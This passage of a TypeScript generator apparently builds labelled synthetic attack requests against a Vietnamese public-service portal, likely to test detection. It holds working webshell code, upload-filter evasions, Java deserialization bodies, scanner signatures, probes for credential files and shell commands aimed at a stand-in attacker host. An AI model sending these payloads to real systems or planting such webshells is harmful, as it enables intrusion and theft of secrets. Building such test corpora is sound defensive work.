          body = body.replace(/"(@type|\$type|@class)"/g, (_, k: string) => `"${Array.from(k, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')}"`);
        }
        return { draft: { method: 'POST', uri: r.pick(['/api/v1/ho-so', '/api/v1/nguoi-dung/cap-nhat', '/api/json']), headers: browserHeaders(r, { 'Content-Type': 'application/json' }), body }, evasion };
      },
    }),
    () => ({
      kind: 'request',
      build: (r) => {
        const raw = String.fromCharCode(0xac, 0xed, 0x00, 0x05, 0x73, 0x72) + javaClass(r) + r.chars(ALNUM, 40);
        return { draft: { method: 'POST', uri: r.pick(['/invoker/JMXInvokerServlet', '/api/remoting', '/wls-wsat/CoordinatorPortType']), headers: browserHeaders(r, { 'Content-Type': 'application/x-java-serialized-object' }), body: raw }, evasion: null };
      },
    }),
  ],
  webshell: [
    () => ({
      kind: 'request',
      build: (r, evade) => {
        const dir = r.pick(['/uploads/', '/upload/files/2024/11/', '/wp-content/uploads/2024/', '/images/', '/assets/tmp/', '/public/hoso/', '/']);
        const name = r.pick(['shell', 'cmd', 'c99', 'r57', 'wso', 'b374k', 'x', 'up', 'alfa', r.chars('abcdef0123456789', 8), 'indoxploit', 'mini']);
        let ext = r.pick(['php', 'php5', 'phtml', 'jsp', 'jspx', 'aspx', 'asp', 'ashx']);
        let evasion: string | null = null;
        if (evade) {
          evasion = 'mixed-case';
          ext = ext.toUpperCase().slice(0, 2) + ext.slice(2);
        }
        const q = r.pick([`cmd=${encodeValue(shellCmd(r, attackerHost(r)), true)}`, `c=${r.pick(['id', 'whoami', 'ls'])}`, 'act=ls&d=%2Fvar%2Fwww', `pass=${r.chars(ALNUM, 8)}`, 'action=upload', `x=${encodeValue(Buffer.from('echo shell_exec("id");').toString('base64'), false)}`]);
        return { draft: { method: 'GET', uri: `${dir}${name}.${ext}?${q}`, headers: browserHeaders(r), body: null }, evasion };
      },
    }),
    () => ({
      kind: 'request',
      build: (r) => {
        const pw = r.pick(['z', 'pass', 'ant', 'a', 'cmd', r.chars('abcdefghijklmnopqrstuvwxyz', 4)]);
        const body = r.pick([
          `${pw}=${encodeValue(`@ini_set("display_errors","0");@set_time_limit(0);echo "->|";${r.pick(['system', 'passthru'])}(base64_decode($_POST["z1"]));echo "|<-";die();`, true)}&z1=${encodeValue(Buffer.from(shellCmd(r, attackerHost(r))).toString('base64'), false)}`,
          `${pw}=${encodeValue(`@eval(base64_decode($_POST[z0]));`, true)}&z0=${encodeValue(Buffer.from('echo @getcwd();').toString('base64'), false)}`,
          `${pw}=${encodeValue(Buffer.from(r.chars(ALNUM, r.int(200, 600))).toString('base64'), false)}`,
        ]);
        return { draft: { method: 'POST', uri: `${r.pick(['/uploads/', '/images/', '/temp/', '/upload/files/'])}${r.pick(['x', '1', 'conn', 'config.inc', 'up'])}.${r.pick(['php', 'aspx', 'jsp'])}`, headers: browserHeaders(r, { 'Content-Type': 'application/x-www-form-urlencoded' }), body }, evasion: null };
      },
    }),
    () => ({
      kind: 'request',
      build: (r, evade) => {
        const code = r.pick([
          `<?php @eval($_POST['${r.pick(['x', 'cmd', 'pass'])}']); ?>`,
          `<?php if(isset($_REQUEST['c'])){ system($_REQUEST['c']); } ?>`,
          `<?=\`$_GET[0]\`?>`,
          `<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>`,
          `<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); %>`,
          `<?php $f=$_FILES['f'];move_uploaded_file($f['tmp_name'],$f['name']);echo 'ok'; ?>`,
        ]);
        let filename = r.pick(['shell.php', 'anh-the.php', 'cmd.jsp', 'x.aspx', 'avatar.phtml', 'don-de-nghi.php5']);
        let content = code;
        let contentType = 'application/octet-stream';
        let evasion: string | null = null;
        if (evade) {
          evasion = r.pick(['double-extension', 'magic-bytes', 'null-byte']);
          if (evasion === 'double-extension') {
            filename = r.pick(['anh-cccd.jpg.php', 'giay-to.pdf.phtml', 'anh.php.jpg', 'hoso.PhP']);
            contentType = 'image/jpeg';
          } else if (evasion === 'magic-bytes') {
            content = `GIF89a;\n${code}`;
            filename = r.pick(['anh.gif.php', 'anh.php', 'avatar.phtml']);
            contentType = 'image/gif';
          } else filename = `shell.php\u0000.jpg`;
        }
        const { contentType: ct, body } = multipart(r, [{ name: 'maHoSo', content: r.chars(DIGITS, 10) }, { name: 'file', filename, contentType, content }]);
        return { draft: { method: 'POST', uri: r.pick(['/api/v1/tep-dinh-kem/tai-len', '/upload/ho-so', '/admin/upload.php', '/ckeditor/upload']), headers: browserHeaders(r, { 'Content-Type': ct }), body }, evasion };
      },
    }),
    () => ({
      kind: 'request',
      build: (r) => {
        const { contentType, body } = multipart(r, [{ name: 'file', filename: '.htaccess', contentType: 'text/plain', content: r.pick(['AddType application/x-httpd-php .jpg', 'SetHandler application/x-httpd-php', '<FilesMatch "\\.jpg$">\nSetHandler application/x-httpd-php\n</FilesMatch>']) }]);
        return { draft: { method: 'POST', uri: '/upload/ho-so', headers: browserHeaders(r, { 'Content-Type': contentType }), body }, evasion: null };
      },
    }),
  ],
  scanner: [
    () => ({
      kind: 'request',
      build: (r, evade) => {
        let ua = r.pick([
          `sqlmap/1.${r.int(5, 8)}.${r.int(1, 12)}#stable (https://sqlmap.org)`,
          `Mozilla/5.00 (Nikto/2.${r.int(1, 5)}.${r.int(0, 6)}) (Evasions:None) (Test:${String(r.int(1, 9999)).padStart(6, '0')})`,
          'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
          `masscan/1.${r.int(0, 3)} (https://github.com/robertdavidgraham/masscan)`,
          `Fuzz Faster U Fool v2.${r.int(0, 1)}.${r.int(0, 9)}`,
          `gobuster/3.${r.int(1, 6)}`,
          `WPScan v3.8.${r.int(10, 25)} (https://wpscan.com/wordpress-security-scanner)`,
          'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36 Nuclei',
          `Wfuzz/3.${r.int(0, 1)}.${r.int(0, 9)}`,
          `feroxbuster/2.${r.int(7, 11)}.${r.int(0, 3)}`,
          'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)',
          'Mozilla/5.0 zgrab/0.x',
          'Acunetix-Product: WVS/15.0',
          'Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1) Netsparker',
          'Jorgee',
          `Nessus SOAP v0.0.1 (Nessus.org)`,
          'Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))',
        ]);
        let evasion: string | null = null;
        if (evade) {
          evasion = 'mixed-case';
          ua = Array.from(ua, (c, i) => (i % 2 === 0 ? c.toUpperCase() : c.toLowerCase())).join('');
        }
        const uri = r.pick(['/', '/index.php', `/tra-cuu-ho-so?ma-ho-so=${r.chars(DIGITS, 6)}`, '/wp-login.php', '/dang-nhap', `/${r.chars('abcdefghijklmnopqrstuvwxyz', 8)}.php`]);
        return { draft: { method: r.pick(['GET', 'GET', 'HEAD', 'POST']), uri, headers: { Host: 'dichvucong.gov.vn', 'User-Agent': ua, Accept: '*/*' }, body: null }, evasion };
      },
    }),
    () => ({
      kind: 'request',
      build: (r, evade) => {
        let path = r.pick(['/.env', '/.git/config', '/.git/HEAD', '/.svn/entries', '/phpmyadmin/index.php', '/pma/', '/server-status', '/actuator/env', '/actuator/heapdump', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/.aws/credentials', '/config.php.bak', '/backup.zip', '/db.sql', '/wp-config.php~', '/cgi-bin/luci/;stok=/locale', '/solr/admin/cores?action=STATUS', '/console/login/LoginForm.jsp', '/manager/html', '/.DS_Store', '/web.config.old', '/_profiler/phpinfo', '/telescope/requests', '/api/swagger.json', '/HNAP1/', '/boaform/admin/formLogin', '/owa/auth/logon.aspx', '/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession', '/admin/config.yml', '/.well-known/security.txt.bak']);
        let evasion: string | null = null;
        if (evade && /[a-z]/.test(path)) {
          evasion = r.pick(['mixed-case', 'double-url-encoding']);
          path = evasion === 'mixed-case' ? path.replace(/[a-z]/g, (c) => (r.chance(0.5) ? c.toUpperCase() : c)) : path.replace(/\./g, '%252e');
        }
        return { draft: { method: 'GET', uri: path, headers: r.chance(0.5) ? browserHeaders(r) : { Host: 'dichvucong.gov.vn', 'User-Agent': r.pick(['Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0', 'python-requests/2.31.0', 'Go-http-client/1.1', 'curl/8.4.0']) }, body: null, status: r.pick([404, 404, 403, 200]) }, evasion };
      },
    }),
    () => ({
      kind: 'request',
      build: (r) => {
        const probe = r.pick([
          `/acunetix-wvs-test-for-some-inexistent-file`,
          `/?${r.pick(['xss', 'q', 'id'])}=${encodeValue(`${r.chars(HEX, 8)}.${r.chars('abcdefghijklmnopqrstuvwxyz0123456789', 20)}.oastify.com`, false)}`,
          `/nessus_is_probing_you_${r.chars(DIGITS, 6)}`,
          `/${r.chars('abcdefghijklmnopqrstuvwxyz', 10)}.nikto`,
          `/Nuclei-${r.chars(HEX, 12)}`,
        ]);
        return { draft: { method: 'GET', uri: probe, headers: browserHeaders(r, r.chance(0.5) ? { 'X-Scanner': 'Netsparker' } : {}), body: null, status: 404 }, evasion: null };
      },
    }),
    () => ({
      kind: 'request',
      build: (r) => {
        // Fuzzers and template scanners with their own User-Agent, and the markers scanners put in
        // parameters: out-of-band callback hosts and the vendors' test sites.
        const ua = r.pick([
          `Fuzz Faster U Fool v2.${r.int(0, 1)}.${r.int(0, 9)}${r.pick(['', '-dev'])}`,
          `feroxbuster/2.${r.int(7, 11)}.${r.int(0, 4)}`,
          `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${r.int(100, 131)}.0 Safari/537.36 ${r.pick(['Nuclei', 'nuclei/3.1'])}`,
          'Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0',
        ]);
        const marker = r.pick([
          'testasp.vulnweb.com',
          `http://testphp.vulnweb.com/${r.pick(['', 't/fit.txt', 'artists.php'])}`,
          `http://some-inexistent-website.acu/some_inexistent_file_with_long_name?.jpg`,
          `${r.chars(HEX, 8)}.${r.chars('abcdefghijklmnopqrstuvwxyz0123456789', 20)}.${r.pick(['oastify.com', 'oast.fun', 'oast.pro', 'interact.sh', 'burpcollaborator.net'])}`,
          `"><script src=https://${r.chars('abcdefghijklmnopqrstuvwxyz', 6)}.bxss.me></script>`,
        ]);
        const name = r.pick(['q', 'url', 'tu-khoa', 'email', 'callback', 'redirect']);
        const uri = `${r.pick(['/', '/tim-kiem', '/tra-cuu-ho-so', '/api/v1/tim-kiem'])}?${name}=${encodeValue(marker, r.chance(0.5))}`;
        return { draft: { method: 'GET', uri, headers: { ...browserHeaders(r), 'User-Agent': ua }, body: null, status: r.pick([200, 404]) }, evasion: null };
      },
    }),
  ],
};

// ---------------------------------------------------------------- placement of a parameter payload

const pages: Record<Placement, readonly string[]> = {
  query: ['/tim-kiem', '/tra-cuu-ho-so', '/dich-vu-cong/thu-tuc', '/api/v1/ho-so', '/tai-lieu/tai-ve', '/p/home/dvc-trang-chu.html', '/index.php'],
  form: ['/dich-vu-cong/nop-ho-so', '/dang-nhap', '/cong-dan/phan-anh-kien-nghi', '/ho-tich/dang-ky-khai-sinh'],
  json: ['/api/v1/ho-so', '/api/v1/nguoi-dung/cap-nhat', '/api/v1/tim-kiem', '/api/v2/thanh-toan/tao'],
  header: ['/', '/dang-nhap', '/api/v1/thong-bao', '/tra-cuu-ho-so'],
  cookie: ['/', '/p/home/dvc-ho-so-ca-nhan.html', '/api/v1/ho-so'],
  path: ['/tai-lieu/tai-ve/', '/api/v1/ho-so/', '/static/', '/dich-vu-cong/thu-tuc/'],
  multipart: ['/api/v1/tep-dinh-kem/tai-len', '/upload/ho-so'],
};

function cookieValue(text: string): string {
  return text.replace(/[;,\s%\u0000-\u001f\u007f-\uffff]/g, (c) => encodeURIComponent(c));
}

function placeParam(rng: Rng, cls: CorpusAttackClass, shot: ParamShot, evade: boolean): { draft: Draft; evasion: string | null } {
  const placement = rng.pick(shot.placements);
  const name = rng.pick(shot.names);
  let evasion: Evasion | null = null;
  if (evade) {
    const fits = evasions.filter((e) => e.classes.includes(cls) && (e.kind === 'text' || (e.kind === 'uri' && (placement === 'query' || placement === 'form' || placement === 'path' || placement === 'cookie')) || (e.kind === 'json' && placement === 'json')));
    if (fits.length > 0) evasion = rng.pick(fits);
  }
  let text = shot.payload;
  let ready: string | null = null; // already encoded for its place
  if (evasion !== null) {
    const out = evasion.apply(text, rng);
    if (out === text) evasion = null;
    else if (evasion.kind === 'text') text = out;
    else ready = out;
  }
  const plus = rng.chance(0.5);
  const enc = (): string => ready ?? encodeValue(text, plus);
  const page = rng.pick(pages[placement]);
  let draft: Draft;
  switch (placement) {
    case 'query': {
      const pairs: [string, string][] = name !== 'lang' && rng.chance(0.5) ? [['lang', 'vi']] : [];
      pairs.push([name, enc()]);
      if (rng.chance(0.4)) pairs.push(['page', String(rng.int(1, 5))]);
      draft = { method: 'GET', uri: `${page}?${joinEncoded(pairs)}`, headers: browserHeaders(rng), body: null };
      break;
    }
    case 'form': {
      const body = `${formEncode([['ho_ten', 'Nguyễn Văn An'], ['so_dien_thoai', `09${rng.chars(DIGITS, 8)}`]])}&${name}=${enc()}`;
      draft = { method: 'POST', uri: page, headers: browserHeaders(rng, { 'Content-Type': 'application/x-www-form-urlencoded' }), body };
      break;
    }
    case 'json': {
      const inner = ready ?? JSON.stringify(text).slice(1, -1);
      const nested = rng.chance(0.5);
      const shape = nested ? { maThuTuc: `1.${rng.chars(DIGITS, 6)}`, nguoiNop: { hoTen: 'Trần Thị Bình', [name]: '\u0001P\u0001' } } : { [name]: '\u0001P\u0001', limit: 20 };
      const body = JSON.stringify(shape).replace('\\u0001P\\u0001', inner);
      draft = { method: rng.pick(['POST', 'PUT']), uri: page, headers: browserHeaders(rng, { 'Content-Type': 'application/json' }), body };
      break;
    }
    case 'header': {
      const header = rng.pick(shot.headers ?? ['User-Agent']);
      const headers = browserHeaders(rng);
      headers[header] = text.replace(/[\r\n]+/g, ' ');
      draft = { method: 'GET', uri: page, headers, body: null };
      break;
    }
    case 'cookie': {
      const headers = browserHeaders(rng);
      const value = ready ?? cookieValue(text);
      headers['Cookie'] = `${headers['Cookie'] ?? `JSESSIONID=${rng.chars(HEX, 32)}`}; ${name}=${value}`;
      draft = { method: 'GET', uri: page, headers, body: null };
      break;
    }
    case 'path': {
      let segment = enc();
      if (ready === null && rng.chance(0.5)) segment = segment.replace(/%2F/g, '/');
      draft = { method: 'GET', uri: `${page}${segment}`, headers: browserHeaders(rng), body: null };
      break;
    }
    case 'multipart': {
      const { contentType, body } = multipart(rng, [{ name: 'maHoSo', content: rng.chars(DIGITS, 10) }, { name, content: text }, { name: 'file', filename: 'to-khai.pdf', contentType: 'application/pdf', content: fileContent(rng, 'pdf') }]);
      draft = { method: 'POST', uri: page, headers: browserHeaders(rng, { 'Content-Type': contentType }), body };
      break;
    }
  }
  return { draft, evasion: evasion?.name ?? null };
}

/** One attack of `cls` (without id); `evade` asks for an evasion where one fits. */
export function attackTransaction(rng: Rng, cls: CorpusAttackClass, evade: boolean): { draft: Draft; evasion: string | null } {
  const shot = rng.pick(generators[cls])(rng);
  return shot.kind === 'param' ? placeParam(rng, cls, shot, evade) : shot.build(rng, evade);
}

/** The classes the corpus generates (the contract's classes but `other`). */
export const corpusClasses: readonly CorpusAttackClass[] = Object.keys(generators) as CorpusAttackClass[];
